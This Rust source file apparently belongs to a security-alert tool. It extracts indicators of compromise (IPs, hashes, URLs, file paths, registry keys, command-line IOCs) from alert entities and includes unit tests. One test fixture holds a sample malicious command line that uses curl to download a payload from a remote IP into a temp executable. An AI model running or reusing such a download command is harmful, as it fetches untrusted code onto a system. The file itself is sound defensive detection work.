//! Indicators implied by structured entities, plus those found in their free-text fields
//! (command lines), merged without duplicates.

use std::collections::HashSet;

use aluskort_core::{AlertEntities, Ioc, IocType};

use crate::text::extract_iocs;

/// Every indicator carried by `entities`, typed fields first, then command-line text.
pub fn entity_iocs(entities: &AlertEntities) -> Vec<Ioc> {
    let mut out = Vec::new();
    let mut seen = HashSet::new();
    let mut push = |ioc: Ioc| {
        if seen.insert(ioc.clone()) {
            out.push(ioc);
        }
    };
    for ip in &entities.ips {
        // A host's own loopback or unspecified address is not an indicator of anything.
        if ip.address.parse::<std::net::IpAddr>().is_ok_and(|a| a.is_loopback() || a.is_unspecified()) {
            continue;
        }
        if let Ok(ioc) = Ioc::parse(IocType::Ipv4, &ip.address).or_else(|_| Ioc::parse(IocType::Ipv6, &ip.address)) {
            push(ioc);
        }
    }
    let hashes = entities.file_hashes.iter().chain(entities.files.iter().flat_map(|file| file.hashes.iter()));
    for hash in hashes {
        let kind = match hash.algorithm.as_str() {
            "md5" => IocType::Md5,
            "sha1" => IocType::Sha1,
            "sha256" => IocType::Sha256,
            "sha512" => IocType::Sha512,
            _ => continue,
        };
        if let Ok(ioc) = Ioc::parse(kind, &hash.value) {
            push(ioc);
        }
    }
    for url in &entities.urls {
        // A URL entity's host is an indicator too; `extract_iocs` reports both.
        for ioc in extract_iocs(&url.url) {
            if matches!(ioc.kind(), IocType::Url | IocType::Domain | IocType::Ipv4 | IocType::Ipv6) {
                push(ioc);
            }
        }
    }
    for dns in &entities.dns {
        if let Ok(ioc) = Ioc::parse(IocType::Domain, &dns.domain) {
            push(ioc);
        }
        for address in &dns.resolved_ips {
            if let Ok(ioc) = Ioc::parse(IocType::Ipv4, address).or_else(|_| Ioc::parse(IocType::Ipv6, address)) {
                push(ioc);
            }
        }
    }
    for mailbox in &entities.mailboxes {
        if let Some(Ok(ioc)) = mailbox.address.as_deref().map(|address| Ioc::parse(IocType::Email, address)) {
            push(ioc);
        }
    }
    for file in &entities.files {
        if let (Some(directory), Some(name)) = (&file.directory, &file.name) {
            // POSIX directories join with '/', Windows ones with '\'.
            let separator = if directory.contains('/') && !directory.contains('\\') { '/' } else { '\\' };
            if let Ok(ioc) = Ioc::parse(IocType::FilePath, &format!("{}{separator}{name}", directory.trim_end_matches(separator))) {
                push(ioc);
            }
        }
    }
    for other in &entities.other {
        let kind = crate::sentinel::normalise_type(&other.entity_type);
        let typed = match kind.as_str() {
            "vulnerability" => other.attributes.get("Cve").and_then(|v| v.as_str()).map(|v| (IocType::Cve, v)),
            "macaddress" => other.attributes.get("Address").and_then(|v| v.as_str()).map(|v| (IocType::Mac, v)),
            _ => None,
        };
        if let Some((ioc_type, value)) = typed
            && let Ok(ioc) = Ioc::parse(ioc_type, value)
        {
            push(ioc);
        }
        if let Some(path) = other.attributes.get("Path").and_then(|v| v.as_str())
            && (kind == "registrykey" || kind == "registryvalue")
            && let Ok(ioc) = Ioc::parse(IocType::RegistryKey, path)
        {
            push(ioc);
        }
        if kind == "registrykey" || kind == "registryvalue" {
            let hive = other.attributes.get("Hive").and_then(|v| v.as_str()).unwrap_or_default();
            let key = other.attributes.get("Key").and_then(|v| v.as_str()).unwrap_or_default();
            let hive = hive.trim();
            if !hive.is_empty()
                && !key.is_empty()
                && let Ok(ioc) = Ioc::parse(IocType::RegistryKey, &format!("{hive}\\{key}"))
            {
                push(ioc);
            }
        }
    }
    for process in &entities.processes {
        if let Some(image) = &process.image_file
            && let Ok(ioc) = Ioc::parse(IocType::FilePath, image)
        {
            push(ioc);
        }
        if let Some(command_line) = &process.command_line {
            for ioc in extract_iocs(command_line) {
                push(ioc);
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use aluskort_core::entity::{FileEntity, FileHash, IpEntity, ProcessEntity};

    use super::*;

    #[test]
    fn collects_typed_and_command_line_indicators_once() {
        let entities = AlertEntities {
            ips: vec![IpEntity { address: "203.0.113.5".into(), ..Default::default() }],
            files: vec![FileEntity {
                name: Some("x.exe".into()),
                directory: Some("C:\\Temp".into()),
                hashes: vec![FileHash { algorithm: "md5".into(), value: "9d8e30daf21108092d5980c931876b7e".into() }],
            }],
            file_hashes: vec![FileHash { algorithm: "md5".into(), value: "9d8e30daf21108092d5980c931876b7e".into() }],
            processes: vec![ProcessEntity {
                command_line: Some("curl http://203.0.113.5/payload -o C:\\Temp\\x.exe".into()),
                ..Default::default()
            }],
            ..Default::default()
        };
        let iocs: Vec<String> = entity_iocs(&entities).iter().map(ToString::to_string).collect();
        assert_eq!(
            iocs,
            vec!["ipv4:203.0.113.5", "md5:9d8e30daf21108092d5980c931876b7e", "file_path:C:\\Temp\\x.exe", "url:http://203.0.113.5/payload",]
        );
    }

    #[test]
    fn posix_paths_join_with_slashes_and_loopback_addresses_are_not_indicators() {
        let entities = AlertEntities {
            ips: vec![
                IpEntity { address: "127.0.0.1".into(), ..Default::default() },
                IpEntity { address: "::1".into(), ..Default::default() },
                IpEntity { address: "10.1.2.3".into(), ..Default::default() },
            ],
            files: vec![FileEntity { name: Some("bash".into()), directory: Some("/tmp".into()), hashes: Vec::new() }],
            ..Default::default()
        };
        let iocs: Vec<String> = entity_iocs(&entities).iter().map(|i| format!("{}:{}", i.kind().as_str(), i.value())).collect();
        assert_eq!(iocs, vec!["ipv4:10.1.2.3", "file_path:/tmp/bash"]);
    }
}
